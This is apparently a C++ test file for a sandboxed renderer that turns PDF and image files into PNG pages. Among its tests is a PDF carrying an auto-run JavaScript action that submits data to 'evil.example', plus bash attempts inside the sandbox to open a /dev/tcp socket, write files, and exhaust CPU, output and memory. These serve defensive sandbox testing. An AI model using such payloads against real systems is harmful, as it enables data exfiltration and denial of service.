#include "faces/pictures.h"

#include <doctest/doctest.h>

#include <chrono>
#include <fstream>
#include <string>

#include "faces/sandbox.h"

using namespace writ;
using namespace writ::faces;

namespace {

/// A PDF with a right cross-reference table, from its objects.
std::string pdf(const std::vector<std::string>& objects) {
  std::string out = "%PDF-1.7\n";
  std::vector<std::size_t> at;
  for (std::size_t i = 0; i < objects.size(); ++i) {
    at.push_back(out.size());
    out += std::to_string(i + 1) + " 0 obj\n" + objects[i] + "\nendobj\n";
  }
  const std::size_t table = out.size();
  out += "xref\n0 " + std::to_string(objects.size() + 1) + "\n0000000000 65535 f \n";
  for (const std::size_t offset : at) {
    const std::string digits = std::to_string(offset);
    out += std::string(10 - digits.size(), '0') + digits + " 00000 n \n";
  }
  return out + "trailer\n<< /Size " + std::to_string(objects.size() + 1) + " /Root 1 0 R >>\nstartxref\n" +
         std::to_string(table) + "\n%%EOF\n";
}

std::string stream(const std::string& content) {
  return "<< /Length " + std::to_string(content.size()) + " >>\nstream\n" + content + "\nendstream";
}

std::string pages(int count, const std::string& box = "0 0 595 842", const std::string& catalog = "") {
  std::string kids;
  for (int i = 0; i < count; ++i) kids += std::to_string(5 + i) + " 0 R ";
  std::vector<std::string> objects = {"<< /Type /Catalog /Pages 2 0 R " + catalog + " >>",
                                      "<< /Type /Pages /Kids [ " + kids + "] /Count " + std::to_string(count) + " >>",
                                      stream("BT /F1 24 Tf 72 700 Td (ORDER OF THE COURT) Tj ET"),
                                      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"};
  for (int i = 0; i < count; ++i)
    objects.push_back("<< /Type /Page /Parent 2 0 R /MediaBox [" + box +
                      "] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> >>");
  return pdf(objects);
}

}  // namespace

TEST_CASE("a page becomes a picture, and its words can be read") {
  Pictures pictures;
  const std::string order = pages(2);
  CHECK(pictures.count("a", "application/pdf", order).pages == 2);
  const auto png = pictures.picture(order, 2);
  REQUIRE_MESSAGE(png, (png ? "" : png.error().message()));
  CHECK(png->starts_with("\x89PNG"));
  CHECK(png->size() > 2000);
  CHECK(pictures.picture(order, 3).error().code != base::Errc::invalid);
  CHECK_FALSE(pictures.picture(order, 3));
  const auto text = pictures.text("application/pdf", order);
  REQUIRE(text);
  CHECK(text->find("ORDER OF THE COURT") != std::string::npos);
}

TEST_CASE("a document of 3,000 pages is counted and any page of it is shown") {
  Pictures pictures;
  const std::string order = pages(3000);
  const auto start = std::chrono::steady_clock::now();
  CHECK(pictures.count("b", "application/pdf", order).pages == 3000);
  CHECK(pictures.picture(order, 2999));
  CHECK(std::chrono::steady_clock::now() - start < std::chrono::seconds(10));
}

TEST_CASE("script in a document does nothing: a page is a picture of it") {
  Pictures pictures;
  const std::string order =
      pages(1, "0 0 595 842",
            "/OpenAction << /S /JavaScript /JS (app.alert('x'); this.submitForm('https://evil.example/');) >>");
  CHECK(pictures.count("c", "application/pdf", order).pages == 1);
  CHECK(pictures.picture(order, 1));
}

TEST_CASE("a page of a kilometre is a picture of bounded size, and noise is refused in words") {
  Pictures pictures;
  const auto png = pictures.picture(pages(1, "0 0 2834645 2834645"), 1);
  if (png) CHECK(png->size() < 2'000'000);
  const PageCount broken = pictures.count("d", "application/pdf", "%PDF-1.7\nnoise");
  CHECK_FALSE(broken.pages);
  CHECK(broken.trouble == Trouble::program);
  CHECK(broken.rule.find("cannot be shown") != std::string::npos);
}

TEST_CASE("a picture is a page: made again by the sandboxed program, in every kind that phones and scanners make") {
  Pictures pictures;
  const auto picture_of = [](const std::string& name) {
    std::ifstream in(std::string(WRIT_SOURCE_DIR) + "/tests/faces/pictures/" + name, std::ios::binary);
    return std::string(std::istreambuf_iterator<char>(in), {});
  };
  for (const std::string name : {"rgb.png", "rgba.png", "grey-alpha.png", "palette.png", "photo.jpg", "grey.jpg"}) {
    CAPTURE(name);
    const std::string image = picture_of(name);
    REQUIRE(image.size() > 50);
    CHECK(pictures.count(name, name.ends_with("png") ? "image/png" : "image/jpeg", image).pages == 1);
    const auto png = pictures.picture(image, 1);
    REQUIRE_MESSAGE(png, (png ? "" : png.error().message()));
    CHECK(png->starts_with("\x89PNG"));
    CHECK(*png != image);
    CHECK_FALSE(pictures.picture(image, 2));
  }
  const PageCount interlaced = pictures.count("i", "image/png", picture_of("interlaced.png"));
  CHECK_FALSE(interlaced.pages);
  CHECK(interlaced.trouble == Trouble::picture);
  const std::string cut = picture_of("photo.jpg").substr(0, 12);
  CHECK_FALSE(pictures.count("cut", "image/jpeg", cut).pages);
}

TEST_CASE("whoever reads a document can neither open a socket, write a file, start a process nor run on") {
  // bash as the worst reader of a document: its built-ins try what an exploit would.
  const auto attempt = [](const std::string& script, SandboxLimits limits = {}) {
    return run_sandboxed("/bin/bash", {"--norc", "-c", script}, "input", limits);
  };
  const auto plain = attempt("read -r line; echo \"$line\"");
  REQUIRE_MESSAGE(plain, (plain ? "" : plain.error().message()));
  CHECK(*plain == "input\n");
  CHECK(*attempt("exec 2>&1; (echo) || true; echo done").value_or("").c_str() != 'x');
  CHECK_FALSE(attempt("exec 3<>/dev/tcp/127.0.0.1/9"));
  const std::string file = "/tmp/writ-sandbox-was-here";
  CHECK_FALSE(attempt("echo x > " + file));
  CHECK_FALSE(std::ifstream(file).good());
  CHECK_FALSE(attempt("/bin/ls /"));
  CHECK_FALSE(attempt("while :; do :; done", {.cpu = std::chrono::seconds(1), .wall = std::chrono::seconds(5)}));
  CHECK_FALSE(attempt("while :; do echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; done", {.output_bytes = 100'000}));
  CHECK_FALSE(attempt("x=aaaaaaaa; while :; do x=$x$x; done", {.memory_bytes = std::size_t{256} << 20}));
}
